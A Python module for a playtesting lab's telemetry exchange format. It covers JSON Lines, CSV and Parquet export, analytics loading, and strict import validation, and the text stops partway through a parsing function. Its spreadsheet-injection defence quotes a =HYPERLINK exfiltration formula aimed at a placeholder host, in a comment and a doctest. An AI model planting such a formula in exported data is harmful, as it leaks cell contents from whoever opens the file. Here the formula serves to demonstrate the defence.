"""The exchange format of ``shared/design/telemetry-format.md``: export, import, frames.

JSON Lines, one record per line, ``record`` first: ``study``, ``participant``,
``assignment``, ``event``, ``response``. Times are ISO 8601 UTC with milliseconds and
``Z``. Keys beyond the required ones are kept: the optional columns we know (e.g.
``games_per_tester``, ``client_event_id``, ``page_id``) go to their columns, anything else
to the row's ``extra`` JSON, and all of it comes back out on export.

Import checks every line before storing anything, then stores the whole file in one
transaction; a second import of the same file adds nothing (records are keyed by
``study_id``, ``participant_id``, (``participant_id``, ``experiment``),
(``session_id``, ``seq``) and (``participant_id``, ``survey``, ``item``)).

Limits of an import file (each broken limit is one error with its line number, and
nothing of the file is stored). The file is read line by line, twice, and never whole:

- a line (one record) holds at most :data:`MAX_LINE_BYTES` bytes (1 MiB) of UTF-8;
- values nest at most :data:`MAX_NESTING` levels (objects and lists);
- a text (a key or a value) holds at most :data:`MAX_TEXT_CHARS` characters and no NUL
  character (``\u0000``) or lone UTF-16 surrogate (PostgreSQL cannot store either);
- integers lie within ±(2⁵³ − 1) (:data:`MAX_INTEGER`, what every JSON reader keeps
  exactly); numbers are finite (no ``NaN``, ``Infinity`` or 1e999);
- a study record's settings pass the same check as the Studies page: the caller passes
  it (``check_study``; the app's is :func:`playtest.study_config.study_record_problem`,
  which knows the games; storage knows none);
- a study's optional ``family`` is a study id and its ``version`` a whole number from 1
  (1 without a family); an experiment's optional ``targets`` is a confusion point id;
- a tester's events, answers and assignments are not dated before their consent;
- ids, types and versions fit their columns (64 characters for most ids), and whole
  numbers stored in 32-bit columns (seq, games_completed) fit them;
- title and game are strings.

A file that is not JSON Lines at all (Parquet, CSV, a spreadsheet, a SQLite file,
gzip) is refused at its first line with what it looks like.

CSV and Parquet exports write one tidy table per record kind next to ``--out``:
``<stem>.study.csv``, ``<stem>.participants.csv``, ``<stem>.assignments.csv``,
``<stem>.events.csv``, ``<stem>.responses.csv`` (or ``.parquet``). Nested values
(rules, experiments, props, list answers) are JSON text; event tables also carry each
top-level prop as its own ``props.<key>`` column so a spreadsheet can filter on it.
"""

from __future__ import annotations

import csv
import json
import math
import re
from collections.abc import Callable, Collection, Iterator, Sequence
from dataclasses import dataclass, field
from pathlib import Path
from typing import IO, Any

import pandas as pd
from sqlalchemy import BigInteger, Engine, Integer, Text, cast, func, select, update

from analytics.data import (
    ASSIGNMENT_COLUMNS,
    EVENT_COLUMNS,
    PARTICIPANT_COLUMNS,
    RESPONSE_COLUMNS,
    UNNAMED_GAME,
    StudyData,
)
from playtest.storage import survey_records
from playtest.storage.admission import PANEL_ID
from playtest.storage.db import write_lock
from playtest.storage.errors import ImportRejected, NotFound
from playtest.storage.models import (
    STAGES,
    assignments,
    events,
    panel_ids,
    participants,
    responses,
    sessions,
    studies,
)
from playtest.storage.repository import PHASES, upsert_insert
from playtest.storage.settings_document import (
    FAMILY_KEYS,
    LANGUAGE_KEY,
    exchange_fields,
    family_problem,
    raw_config,
    targets_problem,
)
from playtest.storage.timeutil import iso_from_ms, ms_from_iso, now_ms

#: A participant record's recruitment panel ids, written by ``export --with-panel-ids``
#: only: the panel (``prolific``/``generic``), its participant id, study id and session id.
PANEL_KEYS = ("panel", "panel_id", "panel_study", "panel_session")
RECORD_KINDS = ("study", "participant", "assignment", "event", "response", "survey")
#: Record kinds stored as rows of their own table (a ``survey`` goes with its studies).
TABLE_KINDS = RECORD_KINDS[:-1]
REQUIRED: dict[str, tuple[str, ...]] = {
    "study": ("study_id", "title", "rules", "experiments"),
    "participant": ("study_id", "participant_id", "created_at", "consented_at"),
    "assignment": ("participant_id", "experiment", "variant", "at"),
    "event": ("participant_id", "session_id", "seq", "at", "type", "props"),
    "response": ("participant_id", "survey", "survey_version", "phase", "item", "value", "at"),
    "survey": ("survey", "survey_version", "definition"),
}
# Keys we know beyond the required ones: they map to columns, not to ``extra``.
OPTIONAL: dict[str, tuple[str, ...]] = {
    "study": (
        "game",  # absent in exports from before the lab had more than one game
        "surveys",
        "games_per_tester",
        "allow_more_games",
        "settings",
        "open",
        "created_at",
        *FAMILY_KEYS,  # the study's family: stored with its settings
        LANGUAGE_KEY,  # the language its testers are addressed in: stored with its settings
    ),
    "participant": (
        "consent",
        "stage",
        "games_completed",
        "completion_code",
        "attributes",
        *PANEL_KEYS,  # only in an export that asked for them (personal data)
    ),
    "assignment": (),
    "event": ("game_id", "client_event_id"),
    "response": ("survey_hash", "page_id", "seconds_on_page"),
    "survey": (),
}
MAX_PROBLEMS = 1000
BATCH = 20_000
#: Import limits (module docstring): bytes per line, nesting levels, characters per text,
#: largest integer.
MAX_LINE_BYTES = 1 << 20
MAX_NESTING = 16
MAX_TEXT_CHARS = 100_000
MAX_INTEGER = 2**53 - 1


# ---------------------------------------------------------------- reading the database


def _extra(value: Any) -> dict[str, Any]:
    return value if isinstance(value, dict) else {}


def iter_records(engine: Engine, study_id: str, *,
                 with_panel_ids: bool = False) -> Iterator[dict[str, Any]]:
    """A study's exchange-format records in file order: study, participants, assignments,
    events (by participant, session, seq), responses.

    A tester's recruitment panel ids are personal data: a participant record carries
    them (:data:`PANEL_KEYS`) only ``with_panel_ids``."""
    with engine.connect() as conn:
        panel_of: dict[str, dict[str, Any]] = {}
        if with_panel_ids:
            panel_of = {
                str(row.participant_id): {key: getattr(row, key) for key in PANEL_KEYS}
                for row in conn.execute(select(panel_ids)
                                        .where(panel_ids.c.study_id == study_id))}
        study = conn.execute(select(studies).where(studies.c.study_id == study_id)).first()
        if study is None:
            raise NotFound(f"no study {study_id!r}")
        yield {
            "record": "study",
            "study_id": study.study_id,
            "title": study.title,
            "game": study.game,
            **exchange_fields(study.config),
            "open": bool(study.open),
            "created_at": iso_from_ms(study.created_at_ms),
            **{key: value for key, value in _extra(study.extra).items()
               if key != survey_records.DEFINITIONS_KEY},
        }
        used = conn.execute(
            select(responses.c.survey, responses.c.survey_version)
            .where(responses.c.study_id == study_id).distinct()).all()
        yield from survey_records.export_records(
            _extra(study.extra).get(survey_records.DEFINITIONS_KEY) or {},
            [(str(survey), str(version)) for survey, version in used])
        for row in conn.execute(
            select(participants)
            .where(participants.c.study_id == study_id)
            .order_by(participants.c.created_at_ms, participants.c.participant_id)
        ):
            yield {
                "record": "participant",
                "study_id": row.study_id,
                "participant_id": row.participant_id,
                "created_at": iso_from_ms(row.created_at_ms),
                "consented_at": None
                if row.consented_at_ms is None
                else iso_from_ms(row.consented_at_ms),
                "consent": row.consent,
                "stage": row.stage,
                "games_completed": row.games_completed,
                "completion_code": row.completion_code,
                "attributes": row.attributes,
                **_extra(row.extra),
                **panel_of.get(row.participant_id, {}),
            }
        for row in conn.execute(
            select(assignments)
            .where(assignments.c.study_id == study_id)
            .order_by(assignments.c.participant_id, assignments.c.experiment)
        ):
            yield {
                "record": "assignment",
                "participant_id": row.participant_id,
                "experiment": row.experiment,
                "variant": row.variant,
                "at": iso_from_ms(row.at_ms),
                **_extra(row.extra),
            }
        event_rows = conn.execution_options(yield_per=BATCH).execute(
            select(
                events.c.participant_id,
                events.c.session_id,
                events.c.seq,
                events.c.at_ms,
                events.c.type,
                cast(events.c.props, Text),
                events.c.game_id,
                events.c.client_event_id,
                cast(events.c.extra, Text),
            )
            .where(events.c.study_id == study_id)
            .order_by(events.c.participant_id, events.c.session_id, events.c.seq)
        )
        for pid, sid, seq, at_ms, kind, props, game_id, client_id, extra in event_rows:
            record = {
                "record": "event",
                "participant_id": pid,
                "session_id": sid,
                "seq": seq,
                "at": iso_from_ms(at_ms),
                "type": kind,
                "props": json.loads(props),
                "game_id": game_id,
            }
            if client_id is not None:
                record["client_event_id"] = client_id
            if extra is not None and extra != "null":
                record.update(json.loads(extra))
            yield record
        for row in conn.execute(
            select(responses)
            .where(responses.c.study_id == study_id)
            .order_by(responses.c.participant_id, responses.c.survey, responses.c.item)
        ):
            yield {
                "record": "response",
                "participant_id": row.participant_id,
                "survey": row.survey,
                "survey_version": row.survey_version,
                "phase": row.phase,
                "item": row.item,
                "value": row.value,
                "at": iso_from_ms(row.at_ms),
                "survey_hash": row.survey_hash,
                "page_id": row.page_id,
                "seconds_on_page": row.seconds_on_page,
                **_extra(row.extra),
            }


def export_jsonl(engine: Engine, study_id: str, out: str | Path, *,
                 with_panel_ids: bool = False) -> dict[str, int]:
    """Write a study as JSON Lines; returns the number of records per kind (the panel
    ids only ``with_panel_ids``: :func:`iter_records`).

    The file appears complete or not at all: it is written to a temporary file next to
    ``out`` and renamed at the end; a failure (an unknown study, a full disk) removes it.
    """
    from playtest.storage.outfiles import written_together

    counts = dict.fromkeys(RECORD_KINDS, 0)
    path = Path(out)
    path.parent.mkdir(parents=True, exist_ok=True)
    with written_together([path]) as (tmp,), tmp.open("w", encoding="utf-8") as handle:
        for record in iter_records(engine, study_id, with_panel_ids=with_panel_ids):
            counts[record["record"]] += 1
            handle.write(json.dumps(record, ensure_ascii=False, separators=(",", ":")))
            handle.write("\n")
    return counts


def _json_text(value: Any) -> Any:
    if isinstance(value, dict | list):
        return json.dumps(value, ensure_ascii=False, separators=(",", ":"))
    return value


#: A spreadsheet reads a cell starting with one of these as a formula (OWASP, "CSV
#: Injection"; ASVS 1.2.10 adds NUL): ``=HYPERLINK("http://x/?leak="&A1,"Click")`` in a
#: tester's answer would run when the designer opens the export.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\0")


def neutralised(value: Any) -> Any:
    """A text cell as a spreadsheet must show it: with a leading ``'`` when it starts like
    a formula (OWASP's rule); numbers and other texts as they are. JSON Lines exports
    keep every value exact; only the CSV and Parquet tables do this.

    >>> print(neutralised('=HYPERLINK("http://x.example/?leak="&A1,"Click")'))
    '=HYPERLINK("http://x.example/?leak="&A1,"Click")
    >>> neutralised("-3"), neutralised(-3), neutralised("fine")
    ("'-3", -3, 'fine')
    """
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def export_tables(engine: Engine, study_id: str, out: str | Path, fmt: str, *,
                  with_panel_ids: bool = False) -> dict[str, Path]:
    """Write one tidy table per record kind as CSV or Parquet; returns kind → file."""
    return export_tables_counted(engine, study_id, out, fmt, with_panel_ids=with_panel_ids)[0]


def table_paths(out: str | Path, fmt: str) -> dict[str, Path]:
    """The files a table export to ``out`` writes: kind → ``<stem>.<table>.<fmt>``."""
    base = Path(out)
    stem = (
        base.name[: -len(base.suffix)]
        if base.suffix in (".csv", ".parquet", ".jsonl")
        else base.name
    )
    names = {
        "study": "study",
        "participant": "participants",
        "assignment": "assignments",
        "event": "events",
        "response": "responses",
        "survey": "surveys",
    }
    return {kind: base.parent / f"{stem}.{names[kind]}.{fmt}" for kind in RECORD_KINDS}


def export_tables_counted(
    engine: Engine, study_id: str, out: str | Path, fmt: str, *, with_panel_ids: bool = False
) -> tuple[dict[str, Path], dict[str, int]]:
    """:func:`export_tables`, also returning the rows per kind; all files or none.

    Every text cell is :func:`neutralised` (a leading ``'`` before a formula's first
    character), and a CSV quotes every cell, so no cell a tester wrote runs as a formula
    in a spreadsheet."""
    from playtest.storage.outfiles import written_together

    if fmt not in ("csv", "parquet"):
        raise ValueError(f"format must be csv or parquet, not {fmt!r}")
    rows: dict[str, list[dict[str, Any]]] = {kind: [] for kind in RECORD_KINDS}
    for record in iter_records(engine, study_id, with_panel_ids=with_panel_ids):
        kind = record.pop("record")
        if kind == "event":
            for key, value in record["props"].items():
                record[f"props.{key}"] = _json_text(value)
        rows[kind].append({key: neutralised(_json_text(value))
                           for key, value in record.items()})
    # A study whose answers use no known survey gets no table of definitions.
    rows = {kind: records for kind, records in rows.items() if kind != "survey" or records}
    targets = {kind: path for kind, path in table_paths(out, fmt).items() if kind in rows}
    Path(out).parent.mkdir(parents=True, exist_ok=True)
    with written_together(list(targets.values())) as temporaries:
        for records, temporary in zip(rows.values(), temporaries, strict=True):
            frame = pd.DataFrame.from_records(records)
            if fmt == "csv":
                frame.to_csv(temporary, index=False, quoting=csv.QUOTE_ALL)
            else:
                # Mixed-type columns (answers may be numbers or text) go to Parquet as text.
                for column in frame.columns:
                    if frame[column].dtype == object:
                        kinds = {type(v) for v in frame[column] if v is not None}
                        if len(kinds) > 1:
                            frame[column] = frame[column].map(
                                lambda v: None if v is None else str(v)
                            )
                frame.to_parquet(temporary, index=False)
    return dict(targets), {kind: len(records) for kind, records in rows.items()}


# ---------------------------------------------------------------- analytics frames


def _events_source(conn: Any, engine: Engine, study_id: str) -> str:
    """``events``, or on SQLite ``events NOT INDEXED`` when the study has most testers.

    Without ``ANALYZE`` statistics SQLite reads a study's events through
    ``ix_events_study_type_at``: one random table access per event, twice as slow as
    reading the table in order when the study holds most of it (1.66M events: 5.2 s
    against 2.7 s). With other, bigger studies in the file the index stays the better way.
    """
    if engine.dialect.name != "sqlite":
        return "events"
    mine = conn.execute(
        select(func.count()).select_from(participants).where(participants.c.study_id == study_id)
    ).scalar_one()
    everyone = conn.execute(select(func.count()).select_from(participants)).scalar_one()
    return "events NOT INDEXED" if mine * 2 >= everyone else "events"


def _decode_shared(texts: Sequence[str]) -> list[Any]:
    """JSON texts decoded once per distinct text; equal texts share one (read-only) value.

    Events repeat their props a lot (1.66M events of a 10,000-tester demo study have
    212,000 distinct props texts), and one ``json.loads`` of a JSON array of the distinct
    texts skips the per-call overhead: 13.1 s → 2.1 s for those 1.66M texts.

    >>> a, b, c = _decode_shared(['{"x": 1}', '{"x": 1}', '[]'])
    >>> a == b == {"x": 1} and a is b and c == []
    True
    """
    distinct = list(dict.fromkeys(texts))
    try:
        values = json.loads("[" + ",".join(distinct) + "]")
    except json.JSONDecodeError:
        values = None
    if not isinstance(values, list) or len(values) != len(distinct):
        values = [json.loads(text) for text in distinct]  # names the bad text, if any
    lookup = dict(zip(distinct, values, strict=True))
    return [lookup[text] for text in texts]


def _decode_nullable(texts: list[str | None]) -> list[Any]:
    """Like :func:`_decode_shared`, with SQL ``NULL`` read as ``None``."""
    present = [text for text in texts if text is not None]
    values = iter(_decode_shared(present))
    return [None if text is None else next(values) for text in texts]


def load_study_data(
    engine: Engine, study_id: str, records_of: Collection[str] | None = None
) -> StudyData:
    """A study's records as :class:`analytics.data.StudyData` frames (exchange columns).

    ``records_of`` limits the events and responses to those testers (the dashboard's
    snapshot re-reads only testers whose data changed); participants and assignments
    are always the whole study's.
    """
    chosen = None if records_of is None else sorted(set(records_of))
    with engine.connect() as conn:
        study = conn.execute(select(studies).where(studies.c.study_id == study_id)).first()
        if study is None:
            raise NotFound(f"no study {study_id!r}")
        study_record = {
            "study_id": study.study_id,
            "title": study.title,
            "game": study.game,
            **{key: value for key, value in exchange_fields(study.config).items()
               if key != "allow_more_games"},
            **_extra(study.extra),
        }
        part_rows = conn.execute(
            select(
                participants.c.study_id,
                participants.c.participant_id,
                participants.c.created_at_ms,
                participants.c.consented_at_ms,
                # JSON text, decoded once per distinct text below: testers share a few
                # attribute sets, and SQLAlchemy's JSON processing per row cost more.
                cast(participants.c.attributes, Text),
            )
            .where(participants.c.study_id == study_id)
            .order_by(participants.c.created_at_ms)
        ).all()
        assign_rows = conn.execute(
            select(
                assignments.c.participant_id,
                assignments.c.experiment,
                assignments.c.variant,
                assignments.c.at_ms,
            ).where(assignments.c.study_id == study_id)
        ).all()
        # Plain DB-API fetch of JSON text, decoded in one comprehension: SQLAlchemy's
        # per-row processing costs more than the database for a million events. Rows come
        # in storage order and are sorted by pandas (cheaper than an SQL sort here).
        props_text = "props::text" if engine.dialect.name == "postgresql" else "props"
        mark = "%s" if engine.dialect.name == "postgresql" else "?"
        driver = conn.connection.driver_connection
        assert driver is not None
        source = "events" if chosen is not None else _events_source(conn, engine, study_id)

        def fetch(sql: str) -> list[Any]:
            """Rows of ``sql`` (``FROM table``) for the study, or for the chosen testers.

            Chosen testers are found by participant id alone (ids are unique across
            studies): with ``study_id`` in the condition too, SQLite walks the study's
            index, i.e. all its events, to find a hundred testers' (1.8 s against 0.05 s).
            """
            cursor = driver.cursor()
            rows: list[Any] = []
            try:
                if chosen is None:
                    cursor.execute(f"{sql} WHERE study_id = {mark}", (study_id,))
                    return list(cursor.fetchall())
                for part in _chunks(chosen):
                    marks = ", ".join([mark] * len(part))
                    cursor.execute(f"{sql} WHERE participant_id IN ({marks})", tuple(part))
                    rows.extend(cursor.fetchall())
                return rows
            finally:
                cursor.close()

        event_rows = fetch(
            "SELECT participant_id, session_id, seq, at_ms, type, "
            f"{props_text}, game_id FROM {source}"
        )
        # Values as JSON text, decoded by _decode_shared (answers repeat: Likert points):
        # SQLAlchemy's JSON processing cost 1.5 s for 223,000 responses. On SQLite the JSON
        # column has NUMERIC affinity, so numbers come back as numbers: CAST gives text.
        value_text = "value::text" if engine.dialect.name == "postgresql" else "CAST(value AS TEXT)"
        response_rows = fetch(
            "SELECT participant_id, survey, survey_version, phase, item, "
            f"{value_text}, at_ms FROM responses"
        )

    def times(values: Any) -> pd.Series:
        return pd.to_datetime(pd.Series(values, dtype="Int64"), unit="ms", utc=True)

    participants_frame = pd.DataFrame(
        {
            "study_id": [row[0] for row in part_rows],
            "participant_id": [row[1] for row in part_rows],
            "created_at": times([row[2] for row in part_rows]),
            "consented_at": times([row[3] for row in part_rows]),
        },
        columns=PARTICIPANT_COLUMNS,
    )
    assignments_frame = pd.DataFrame(
        {
            "participant_id": [row[0] for row in assign_rows],
            "experiment": [row[1] for row in assign_rows],
            "variant": [row[2] for row in assign_rows],
            "at": times([row[3] for row in assign_rows]),
        },
        columns=ASSIGNMENT_COLUMNS,
    )
    columns: list[Sequence[Any]] = (
        list(zip(*event_rows, strict=True)) if event_rows else [() for _ in range(7)]
    )
    events_frame = pd.DataFrame(
        {
            "participant_id": pd.Series(columns[0], dtype=object),
            "session_id": pd.Series(columns[1], dtype=object),
            "seq": pd.Series(columns[2], dtype="int64"),
            "at": times(columns[3]),
            "type": pd.Series(columns[4], dtype=object),
            "props": pd.Series(_decode_shared(columns[5]), dtype=object),
            "game_id": pd.Series(columns[6], dtype=object),
        },
        columns=EVENT_COLUMNS,
    )
    if len(events_frame):
        events_frame = events_frame.sort_values(
            ["participant_id", "session_id", "seq"], kind="stable", ignore_index=True
        )
    responses_frame = pd.DataFrame(
        {
            "participant_id": [row[0] for row in response_rows],
            "survey": [row[1] for row in response_rows],
            "survey_version": [row[2] for row in response_rows],
            "phase": [row[3] for row in response_rows],
            "item": [row[4] for row in response_rows],
            "value": pd.Series(_decode_nullable([row[5] for row in response_rows]), dtype=object),
            "at": times([row[6] for row in response_rows]),
        },
        columns=RESPONSE_COLUMNS,
    )
    attribute_sets = _decode_nullable([row[4] for row in part_rows])
    attributes = pd.DataFrame.from_records(
        [{"participant_id": row[1], **(found or {})}
         for row, found in zip(part_rows, attribute_sets, strict=True)],
        columns=None,
    )
    if attributes.empty:
        attributes = pd.DataFrame(columns=["participant_id"])
    return StudyData(
        study=study_record,
        participants=participants_frame,
        assignments=assignments_frame,
        events=events_frame,
        responses=responses_frame,
        attributes=attributes,
    )


# ---------------------------------------------------------------- import


@dataclass
class ImportReport:
    """What an import added, per record kind (records already stored count as skipped)."""

    path: str
    lines: int = 0
    added: dict[str, int] = field(default_factory=lambda: dict.fromkeys(RECORD_KINDS, 0))
    read: dict[str, int] = field(default_factory=lambda: dict.fromkeys(RECORD_KINDS, 0))
    # ids of the studies the file's records belong to
    studies: list[str] = field(default_factory=list)
    # answers kept that no known survey definition can score
    unscorable: list[survey_records.Unscorable] = field(default_factory=list)

    def summary(self) -> str:
        plural = {"study": "studies"}
        parts = [
            f"{self.added[kind]} {kind if self.added[kind] == 1 else plural.get(kind, kind + 's')}"
            for kind in RECORD_KINDS
        ]
        skipped = sum(self.read.values()) - sum(self.added.values())
        text = f"imported {self.path}: added " + ", ".join(parts) + f" ({skipped} already stored)"
        return "\n".join([text, *(item.sentence() for item in self.unscorable)])


class _Problems:
    def __init__(self) -> None:
        self.items: list[tuple[int, str]] = []
        self.total = 0

    def add(self, line: int, message: str) -> None:
        self.total += 1
        if len(self.items) < MAX_PROBLEMS:
            self.items.append((line, message))


def _is_time(value: Any) -> bool:
    if not isinstance(value, str):
        return False
    try:
        ms_from_iso(value)
    except ValueError:
        return False
    return True


_ID_LIMIT = 128


def _is_id(value: Any) -> bool:
    return isinstance(value, str) and 0 < len(value) <= _ID_LIMIT


def _id_problem(key: str, value: Any) -> str | None:
    """What is wrong with an id (None: nothing); a long one is told as too long.

    >>> _id_problem("study_id", "x" * 300)
    'study_id is too long: 300 characters, at most 64'
    >>> _id_problem("study_id", ""), _id_problem("study_id", 7)
    ('study_id must not be empty', 'study_id must be a string')
    """
    if not isinstance(value, str):
        return f"{key} must be a string"
    if not value:
        return f"{key} must not be empty"
    limit = min(_ID_LIMIT, _LENGTHS.get(key, _ID_LIMIT))
    if len(value) > limit:
        return f"{key} is too long: {len(value):,} characters, at most {limit}"
    return None


def _id_problems(record: dict[str, Any], *keys: str) -> list[str]:
    return [problem for key in keys if (problem := _id_problem(key, record[key]))]


#: Why a ``study`` record's settings would fail at play, or None (the caller's check of a
#: study's settings: storage knows no game).
StudyCheck = Callable[[dict[str, Any]], str | None]


def _check_record(number: int, record: dict[str, Any], problems: _Problems,
                  check_study: StudyCheck | None = None) -> bool:
    """Per-line checks: kind, required keys, value types, and a study record's settings
    by ``check_study``. False if the line is unusable."""
    kind = record.get("record")
    if kind not in REQUIRED:
        problems.add(number, f"unknown record {kind!r} (expected one of {', '.join(RECORD_KINDS)})")
        return False
    missing = [key for key in REQUIRED[kind] if key not in record]
    if missing:
        problems.add(number, f"{kind} record is missing key {', '.join(map(repr, missing))}")
        return False
    bad: list[str] = []
    if kind == "study":
        bad.extend(_id_problems(record, "study_id"))
        game = record.get("game", UNNAMED_GAME)
        if not isinstance(record["title"], str) or not isinstance(game, str) or not (
                0 < len(game) <= 40):
            bad.append("title and game must be strings (a game name has 1 to 40 characters)")
        if not isinstance(record["rules"], str | dict):
            bad.append("rules must be a preset name or a rule object")
        experiments = record["experiments"]
        if not isinstance(experiments, list) or not all(
            isinstance(e, dict)
            and isinstance(e.get("key"), str)
            and isinstance(e.get("variants"), list)
            and all(isinstance(v, str) for v in e["variants"])
            and isinstance(e.get("target"), str)
            for e in experiments
        ):
            bad.append("experiments must be a list of {key, variants: [names], target}")
        else:
            bad.extend(problem for e in experiments
                       if (problem := targets_problem(e.get("targets"))))
        if "created_at" in record and not _is_time(record["created_at"]):
            bad.append("created_at must be an ISO 8601 time with a zone")
        if not bad and check_study is not None:
            problem = check_study(record)
            if problem is not None:
                bad.append(f"settings refused, {problem}")
    elif kind == "participant":
        bad.extend(_id_problems(record, "participant_id", "study_id"))
        if not _is_time(record["created_at"]):
            bad.append("created_at must be an ISO 8601 time with a zone")
        if record["consented_at"] is not None and not _is_time(record["consented_at"]):
            bad.append("consented_at must be null or an ISO 8601 time with a zone")
    elif kind == "assignment":
        bad.extend(_id_problems(record, "participant_id", "experiment", "variant"))
        if not _is_time(record["at"]):
            bad.append("at must be an ISO 8601 time with a zone")
    elif kind == "event":
        bad.extend(_id_problems(record, "participant_id", "session_id"))
        seq = record["seq"]
        if not isinstance(seq, int) or isinstance(seq, bool) or seq < 1:
            bad.append("seq must be a whole number from 1")
        if not _is_time(record["at"]):
            bad.append("at must be an ISO 8601 time with a zone")
        if not isinstance(record["type"], str) or not record["type"]:
            bad.append("type must be a non-empty string")
        if not isinstance(record["props"], dict):
            bad.append("props must be an object")
        if record.get("game_id") is not None and not isinstance(record["game_id"], str):
            bad.append("game_id must be a string or null")
    elif kind == "survey":
        if not _is_id(record["survey"]) or not isinstance(record["survey_version"],
                                                          str | int | float):
            bad.append("survey and survey_version must be a name and a version")
        else:
            problem = survey_records.check_record(record)
            if problem:
                bad.append(problem)
    elif kind == "response":
        bad.extend(_id_problems(record, "participant_id", "survey", "item"))
        if not isinstance(record["survey_version"], str | int | float):
            bad.append("survey_version must be a string")
        if record["phase"] not in PHASES:
            bad.append("phase must be 'pre' or 'post'")
        if isinstance(record["value"], dict):
            bad.append("value must be a number, string, list or null")
        if not _is_time(record["at"]):
            bad.append("at must be an ISO 8601 time with a zone")
    bad.extend(_check_optional(kind, record))
    if not bad:
        bad.extend(_column_problems(record))
    for message in bad:
        problems.add(number, f"{kind}: {message}")
    return not bad


def _column_limits() -> tuple[dict[str, int], frozenset[str]]:
    """Key → the shortest column length it is stored in; keys stored in 32-bit integers."""
    lengths: dict[str, int] = {}
    small_ints: set[str] = set()
    for table in (studies, participants, assignments, events, responses, sessions):
        for column in table.c:
            length = getattr(column.type, "length", None)
            if isinstance(length, int):
                lengths[column.name] = min(length, lengths.get(column.name, length))
            if isinstance(column.type, Integer) and not isinstance(column.type, BigInteger):
                small_ints.add(column.name)
    small_ints.add("seq")  # stored as the session's last_seq too
    return lengths, frozenset(small_ints)


_LENGTHS, _SMALL_INTS = _column_limits()
_INT32 = 2**31 - 1


def _column_problems(record: dict[str, Any]) -> list[str]:
    """Texts longer than their column, whole numbers beyond a 32-bit column (PostgreSQL
    refuses both with an error; SQLite would store them)."""
    bad: list[str] = []
    for key, value in record.items():
        if isinstance(value, str):
            limit = _LENGTHS.get(key)
            if limit is not None and len(value) > limit:
                bad.append(f"{key} is too long: {len(value):,} characters, at most {limit}")
        elif (isinstance(value, int) and not isinstance(value, bool) and key in _SMALL_INTS
              and not -_INT32 <= value <= _INT32):
            bad.append(f"{key} must be at most {_INT32:,}")
    return bad


def _check_optional(kind: str, record: dict[str, Any]) -> list[str]:
    """Types of the optional keys we map to columns (so storing them cannot fail)."""
    bad: list[str] = []

    def expect(key: str, ok: Callable[[Any], bool], what: str) -> None:
        if key in record and record[key] is not None and not ok(record[key]):
            bad.append(f"{key} must be {what}")

    def whole(value: Any) -> bool:
        return isinstance(value, int) and not isinstance(value, bool)

    if kind == "study":
        expect("games_per_tester", lambda v: whole(v) and v >= 1, "a whole number from 1")
        expect("allow_more_games", lambda v: isinstance(v, bool), "true or false")
        expect("open", lambda v: isinstance(v, bool), "true or false")
        expect("surveys", lambda v: isinstance(v, dict), "an object")
        expect("settings", lambda v: isinstance(v, dict), "an object")
        problem = family_problem(record.get("family"), record.get("version"))
        if problem:
            bad.append(problem)
    elif kind == "participant":
        expect("consent", lambda v: isinstance(v, dict), "an object or null")
        expect("attributes", lambda v: isinstance(v, dict), "an object or null")
        expect("stage", lambda v: v in STAGES, f"one of {', '.join(STAGES)}")
        expect("games_completed", lambda v: whole(v) and v >= 0, "a whole number")
        expect("completion_code", lambda v: isinstance(v, str) and len(v) <= 64, "a string")
        expect("panel", lambda v: v in ("prolific", "generic"), "prolific or generic")
        for key in PANEL_KEYS[1:]:
            expect(key, lambda v: isinstance(v, str) and bool(PANEL_ID.match(v)),
                   "a panel id (1-64 letters, digits, '.', '_' or '-')")
        if (record.get("panel") is None) != (record.get("panel_id") is None):
            bad.append("panel and panel_id go together")
    elif kind == "event":
        expect("client_event_id", lambda v: isinstance(v, str) and len(v) <= 128, "a string")
    elif kind == "response":
        expect("survey_hash", lambda v: isinstance(v, str), "a string or null")
        expect("page_id", lambda v: isinstance(v, str), "a string or null")
        expect(
            "seconds_on_page",
            lambda v: isinstance(v, int | float) and not isinstance(v, bool),
            "a number or null",
        )
    return bad


def _read_lines(handle: IO[bytes]) -> Iterator[tuple[int, str]]:
    """Non-blank lines of a validated file (pass 2): ``(number, text)``."""
    for number, text, _ in _checked_lines(handle):
        if text is not None:
            yield number, text


def _checked_lines(handle: IO[bytes]) -> Iterator[tuple[int, str | None, str | None]]:
    """``(number, text, None)`` per non-blank line, or ``(number, None, problem)``.

    Reads at most :data:`MAX_LINE_BYTES` of a line: the rest of a longer one is skipped
    in bounded pieces, so a 200 MB line costs no more memory than a short one.

    >>> import io
    >>> list(_checked_lines(io.BytesIO(b'{"a": 1}\\n\\n\\xff\\n')))
    [(1, '{"a": 1}\\n', None), (3, None, 'not valid UTF-8 (byte 0xff at byte 1 of the line)')]
    """
    number = 0
    while True:
        raw = handle.readline(MAX_LINE_BYTES + 1)
        if not raw:
            return
        number += 1
        if len(raw) > MAX_LINE_BYTES and not raw.endswith(b"\n"):
            while (more := handle.readline(MAX_LINE_BYTES)) and not more.endswith(b"\n"):
                pass
            yield number, None, f"line longer than {MAX_LINE_BYTES:,} bytes (the limit of one record)"
            continue
        try:
            text = raw.decode("utf-8")
        except UnicodeDecodeError as exc:
            yield (number, None,
                   f"not valid UTF-8 (byte {raw[exc.start]:#04x} at byte {exc.start + 1} of the line)")
            continue
        if number == 1 and text.startswith("\ufeff"):
            text = text[1:]  # a byte order mark (Windows editors write one)
        if text.strip():
            yield number, text, None


def _refuse_constant(name: str) -> Any:
    raise ValueError(f"{name} is not a JSON number")


def _finite_float(text: str) -> float:
    value = float(text)
    if not math.isfinite(value):
        raise ValueError(f"the number {text[:40]} is not finite")
    return value


# Cheap screens (C-speed) before the full walk of a record: a run of 16 digits (a number
# that may be out of range; ids and times rarely have one), an escaped NUL, and (below)
# many brackets or a long line. Numbers with a fraction or an exponent are checked by the
# decoder itself (parse_float), NaN and Infinity by parse_constant.
_SUSPECT = re.compile(r"[0-9]{16}")  # [0-9] scans faster than \d here
# An escaped UTF-16 surrogate: alone it makes a text no database can store as UTF-8.
_SURROGATE = re.compile(r"\\u[dD][89a-fA-F]")
# One decoder for every line: ``json.loads(text, parse_constant=…)`` would build a new
# decoder per call (twice the time of a whole import's first pass).
_DECODER = json.JSONDecoder(parse_constant=_refuse_constant, parse_float=_finite_float)


def _parse_line(text: str) -> tuple[Any, str | None]:
    """The line's JSON value, or None and why it is refused (the import limits)."""
    try:
        value = _DECODER.decode(text)
    except json.JSONDecodeError as exc:
        return None, f"not valid JSON: {exc.msg} (column {exc.colno})"
    except RecursionError:
        return None, f"values nest deeper than {MAX_NESTING} levels"
